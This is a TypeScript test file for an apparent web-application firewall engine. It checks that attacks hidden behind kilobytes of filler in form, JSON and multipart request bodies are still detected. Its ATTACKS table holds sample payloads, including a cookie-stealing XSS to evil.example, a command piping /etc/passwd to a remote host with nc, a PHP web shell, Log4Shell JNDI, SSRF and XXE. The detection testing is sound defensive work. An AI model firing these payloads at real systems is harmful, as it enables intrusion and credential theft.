/** An attack behind filler is found, whatever the class, the size and the kind of body. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createEngine, maintainedRules, ownRules } from '../src/index.ts'
import { inspect } from './support/corpus.ts'
import { get, places, post } from './support/requests.ts'

const ATTACKS: Readonly<Record<string, string>> = {
  sql_injection: "1' union select username, password from users-- ",
  xss: '<script>document.location="//evil.example/?"+document.cookie</script>',
  command_injection: ';cat /etc/passwd|nc 203.0.113.7 4444',
  lfi: '../../../../etc/passwd',
  rfi: 'http://203.0.113.7/shell.txt?',
  php_code_injection: '<?php system($_GET["c"]); ?>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what the attack looks like
  java_code_injection: '${jndi:ldap://evil.example/a}',
  js_code_injection: 'require("child_process").exec("id")',
  template_injection: '{{7*7}}{{config.__class__.__init__.__globals__}}',
  ssrf: 'http://169.254.169.254/latest/meta-data/',
  xxe: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  nosql_injection: '{"$where":"sleep(1000)"}',
  deserialization: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
  ldap_injection: '*)(&(objectClass=*)',
}
const SIZES_KB = [8, 16, 32, 64, 128]
const engine = createEngine([maintainedRules(), ownRules()])

const WORDS = 'apple river stone window quiet morning yellow harbor seven letters garden often'.split(' ')
const fillerOf = (kilobytes: number): string => {
  let text = ''
  for (let index = 0; text.length < kilobytes * 1024; index++)
    text += `${WORDS[(index * 7 + (index >> 4)) % WORDS.length]} `
  return text
}

const boundary = 'b0undary'
const part = (name: string, content: string): string =>
  `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${content}\r\n`
const multipart = (filler: string, attack: string): string =>
  `${part('note', filler)}${part('value', attack)}--${boundary}--\r\n`

const encode = encodeURIComponent
/** In one value behind the filler, and in a value of its own behind it. */
const BODIES: Readonly<Record<string, (filler: string, attack: string) => [type: string, body: string]>> = {
  form: (filler, attack) => [
    'application/x-www-form-urlencoded',
    `note=${encode(filler)}&value=${encode(attack)}`,
  ],
  'form, many fields': (filler, attack) => {
    const fields = filler.match(/.{1,40}/g)?.map((text, index) => `f${index}=${encode(text)}`) ?? []
    return ['application/x-www-form-urlencoded', `${fields.join('&')}&value=${encode(attack)}`]
  },
  JSON: (filler, attack) => ['application/json', JSON.stringify({ note: filler, deep: [{ value: attack }] })],
  multipart: (filler, attack) => [`multipart/form-data; boundary=${boundary}`, multipart(filler, attack)],
}
for (const kilobytes of SIZES_KB)
  test(`attacks behind ${kilobytes} KB of filler`, async () => {
    const filler = fillerOf(kilobytes)
    const clean = await inspect(engine, post('application/json', JSON.stringify({ note: filler })))
    assert.deepEqual(places(clean), [])
    for (const [className, attack] of Object.entries(ATTACKS))
      for (const [kind, make] of Object.entries(BODIES)) {
        const result = await inspect(engine, post(...make(filler, attack)))
        assert.ok(result.hits.length > 0, `${className} in ${kind}`)
        const extent = kind === 'form, many fields' ? 'partial' : 'full'
        assert.equal(result.inspection, extent, `${className} in ${kind}`)
      }
    for (const className of ['sql_injection', 'xss', 'command_injection', 'java_code_injection'])
      assert.ok(
        places(
          await inspect(
            engine,
            post('application/json', JSON.stringify({ note: `${filler}${ATTACKS[className]}` })),
          ),
        ).includes('body note'),
        `${className} at the end of the filler`,
      )
  })

test('an attack drawn out by blanks across the windows of a long value', async () => {
  const note = `${fillerOf(4).slice(0, 3_380)}' UNION${' '.repeat(700)}SELECT password FROM users-- `
  const result = await inspect(engine, post('application/json', JSON.stringify({ note })))
  assert.ok(result.hits.some((hit) => hit.class === 'sql_injection'))
})

test('the many hits of one rule displace none of another', async () => {
  const parts = Array.from(
    { length: 420 },
    (_, index) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="f${index}"; filename="a${index}.py"\r\n\r\nhello\r\n`,
  )
  const body = `${parts.join('')}${multipart('note', "1' union select username, password from users-- ")}`
  const result = await inspect(engine, post(`multipart/form-data; boundary=${boundary}`, body))
  assert.ok(result.hits.some((hit) => hit.class === 'sql_injection'))
})

test('a foreign URL behind many fields is known as one', async () => {
  const fields = Array.from({ length: 130 }, (_, index) => `f${index}=v${index}`)
  const target = `/?${fields.join('&')}&include_path=http://203.0.113.7/shell.txt?`
  const result = await inspect(engine, get(target))
  assert.ok(result.hits.length > 0)
  assert.equal(result.inspection, 'partial')
})
